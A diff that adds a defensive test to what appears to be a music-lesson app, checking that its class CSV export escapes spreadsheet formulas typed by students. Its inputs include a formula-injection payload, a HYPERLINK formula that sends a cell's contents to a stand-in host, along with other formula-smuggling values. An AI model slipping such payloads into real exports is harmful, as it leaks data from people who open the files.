@@ -179,3 +179,36 @@ def test_the_staff_chart_draws_sharps_and_flats_left_of_their_notes() -> None:
         before = heads[index - 1].center[0] + 0.75 if index else clef_right
         assert left > before, note
     assert len(placed) == 3
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    """Names and answers are typed by students: a cell a spreadsheet would run as a formula
+    (= + - @, a tab or a carriage return first) is written with a ' in front (OWASP); a
+    plain negative number stays a number; reading the export back gives every cell as it was."""
+    import csv
+
+    folder = tmp_path / "class"
+    folder.mkdir()
+    evil = '=HYPERLINK("http://example.com/?"&A1,"Click")'
+    typed = [evil, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=1+1", "-3", "Sol"]
+    with ProgressStore(folder / "x.sqlite3", student="=1+1") as store:
+        for answer in typed:
+            store.record("lesson", "04-sharps-and-flats/half-steps", answer, False, 900.0)
+    exports = tmp_path / "exports"
+    exports.mkdir()
+    board = _quiet(lambda: class_dashboard(folder, export_to=exports))
+    board.csv_button.click()
+    path = exports / "class-progress.csv"
+    with path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))[1:]
+    columns = progress.CSV_COLUMNS
+    student, answer = columns.index("student"), columns.index("answer")
+    assert {row[student] for row in rows} == {"'=1+1"}
+    written = [row[answer] for row in rows]
+    for cell in written:
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not cell.startswith("-") or cell == "-3", cell
+    assert written[0] == f"'{evil}" and "-3" in written and "Sol" in written
+    assert "''=1+1" in written  # a ' already there gets one more: read back unchanged
+    back = progress.read_csv(path)
+    assert [a.answer for a in back] == typed and {a.student for a in back} == {"=1+1"}
